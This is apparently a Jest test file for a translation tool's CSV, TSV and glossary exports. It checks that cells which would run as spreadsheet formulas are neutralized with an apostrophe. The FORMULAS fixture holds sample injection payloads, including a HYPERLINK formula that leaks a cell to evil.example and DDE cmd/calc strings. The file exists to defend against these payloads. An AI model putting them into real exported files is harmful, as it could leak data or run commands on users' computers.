import { parse as parseCsv } from "csv-parse/sync";
import { GET as glossaryExportRoute } from "../../app/api/glossary/export/route";
import { exportResponse } from "../../lib/export/download";
import { neutralizeFormula, restoreFormula } from "../../lib/export/formula-cells";
import { exportEntries, exportGlossary, importGlossaryText } from "../../lib/glossary/exchange";
import { hashText } from "../../lib/text/normalize";
import { expectOneLineRefusal } from "../helpers/expect-refusal";
import { runScript } from "../helpers/run-script";
import { createTempDb, type TempDb } from "../helpers/temp-db";
import { exportText } from "./helpers";

jest.setTimeout(60_000);

/** Cells a spreadsheet would run (OWASP's examples and each first character of the rule). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
/** Cells that must come through as they are: an apostrophe of their own, a formula sign later on. */
const PLAIN = ["'Ndrangheta", "Le score final : 2-1", "Réunion à 9h = rien"];
/** Already looks neutralized: must survive a round trip exactly. */
const TRICKY = ["'=SUM(A1)", "''+1"];
const TEXTS = [...FORMULAS, ...PLAIN, ...TRICKY];
/** Glossary forms and notes are stored trimmed: no leading tab or carriage return there. */
const GLOSSARY_TEXTS = TEXTS.filter((t) => t === t.trim());

let temp: TempDb;
let target: TempDb;

beforeAll(async () => {
  [temp, target] = await Promise.all([createTempDb(), createTempDb()]);
  const doc = await temp.db.document.create({ data: { slug: "formules", titleFr: "Formules", titleEn: "Formulas", sourceHash: "f" } });
  for (const [position, text] of TEXTS.entries()) {
    const link = await temp.db.alignmentLink.create({ data: { documentId: doc.id, position, score: 1, method: "manual", locked: true } });
    const data = { documentId: doc.id, position, kind: "body", text, hash: hashText(text), linkId: link.id };
    await temp.db.sourceParagraph.create({ data });
    await temp.db.targetParagraph.create({ data: { ...data, text: `${text} (en)`, status: "draft", origin: "imported" } });
  }
  for (const [i, text] of GLOSSARY_TEXTS.entries()) {
    await temp.db.glossaryEntry.create({ data: { kind: "other", fr: `${text} ${i}`, en: text, note: text } });
  }
});
afterAll(async () => {
  await temp.close();
  await target.close();
});

const neutralized = (text: string) => (/^'*[=+\-@\t\r]/.test(text) ? `'${text}` : text);

describe("the rule", () => {
  it("prefixes exactly the cells that start like a formula, and restoring gives back every text", () => {
    for (const text of FORMULAS) expect(neutralizeFormula(text)).toBe(`'${text}`);
    for (const text of PLAIN) expect(neutralizeFormula(text)).toBe(text);
    for (const text of [...TEXTS, "", "'", "''", "=", "'a", "a'"]) expect(restoreFormula(neutralizeFormula(text))).toBe(text);
    // A person's own "'=x" (a spreadsheet's way to type text) reads as the text "=x".
    expect(restoreFormula("'=x")).toBe("=x");
    expect(restoreFormula("'Ndrangheta")).toBe("'Ndrangheta");
  });
});

describe("document CSV and TSV", () => {
  it("CSV: every formula cell starts with an apostrophe, on both sides; other cells are untouched", async () => {
    const records = parseCsv(await exportText(temp.db, { format: "csv" }), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.fr)).toEqual(TEXTS.map(neutralized));
    expect(records.map((r) => r.en)).toEqual(TEXTS.map((t) => neutralized(`${t} (en)`)));
    for (const r of records) expect(r.fr).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("TSV: the same, before tabs and line breaks are escaped", async () => {
    const lines = (await exportText(temp.db, { format: "tsv" })).split("\n").filter(Boolean).slice(1);
    const fr = lines.map((l) => l.split("\t")[2]);
    expect(fr.slice(0, 4)).toEqual(FORMULAS.slice(0, 4).map((t) => `'${t}`));
    expect(fr.slice(4, 6)).toEqual(["'\\t=1+1", "'\\r=1+1"]);
    expect(fr.slice(6)).toEqual([...PLAIN, ...TRICKY.map((t) => `'${t}`)]);
  });

  it("raw values: cells as stored", async () => {
    const records = parseCsv(await exportText(temp.db, { format: "csv", rawValues: true }), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.fr)).toEqual(TEXTS);
  });

  it("the command neutralizes by default; --raw-values keeps raw values, and only for csv and tsv", () => {
    const cli = (...args: string[]) => runScript("export", ["--doc", "formules", ...args], { DATABASE_URL: temp.url });
    const safe = cli("--format", "csv");
    expect(safe.status).toBe(0);
    expect((parseCsv(safe.stdout, { columns: true }) as Record<string, string>[])[0].fr).toBe(`'${FORMULAS[0]}`);
    const raw = cli("--format", "csv", "--raw-values");
    expect((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[])[0].fr).toBe(FORMULAS[0]);
    expectOneLineRefusal(cli("--format", "tmx", "--raw-values"), /^error: --raw-values: only csv and tsv have cells, not --format tmx$/);
  });

  it("the download neutralizes by default; raw=1 keeps raw values, and only for csv and tsv", async () => {
    const first = async (query: string) => (parseCsv(await (await exportResponse(temp.db, new URLSearchParams(query))).text(), { columns: true }) as Record<string, string>[])[0].fr;
    expect(await first("doc=formules&format=csv")).toBe(`'${FORMULAS[0]}`);
    expect(await first("doc=formules&format=csv&raw=1")).toBe(FORMULAS[0]);
    await expect(exportResponse(temp.db, new URLSearchParams("doc=formules&format=tmx&raw=1"))).rejects.toMatchObject({
      field: "raw",
      message: "raw: only csv and tsv have cells to keep raw",
    });
  });
});

describe("glossary CSV", () => {
  it("neutralizes formula cells, and importing the file gives back every entry exactly", async () => {
    const csv = await exportGlossary(temp.db, "csv");
    const records = parseCsv(csv, { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.en).sort()).toEqual(GLOSSARY_TEXTS.map(neutralized).sort());
    for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    expect(await importGlossaryText(target.db, csv, "glossary.csv")).toMatchObject({ created: GLOSSARY_TEXTS.length });
    expect(await exportEntries(target.db)).toEqual(await exportEntries(temp.db));
  });

  it("raw values from the command and the download route, which refuse them for TBX", async () => {
    const raw = runScript("glossary", ["export", "--format", "csv", "--raw-values"], { DATABASE_URL: temp.url });
    expect(raw.status).toBe(0);
    expect((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.en).sort()).toEqual([...GLOSSARY_TEXTS].sort());
    expectOneLineRefusal(
      runScript("glossary", ["export", "--format", "tbx", "--raw-values"], { DATABASE_URL: temp.url }),
      /^error: --raw-values: only csv has cells, not --format tbx$/,
    );

    process.env.DATABASE_URL = temp.url;
    const download = async (query: string) => glossaryExportRoute(new Request(`http://localhost/api/glossary/export?${query}`));
    const cells = async (query: string) => (parseCsv(await (await download(query)).text(), { columns: true }) as Record<string, string>[]).map((r) => r.en).sort();
    expect(await cells("format=csv")).toEqual(GLOSSARY_TEXTS.map(neutralized).sort());
    expect(await cells("format=csv&raw=1")).toEqual([...GLOSSARY_TEXTS].sort());
    const refused = await download("format=tbx&raw=1");
    expect(refused.status).toBe(422);
    expect((await refused.json()).error).toBe("raw: only csv has cells to keep raw");
  });
});
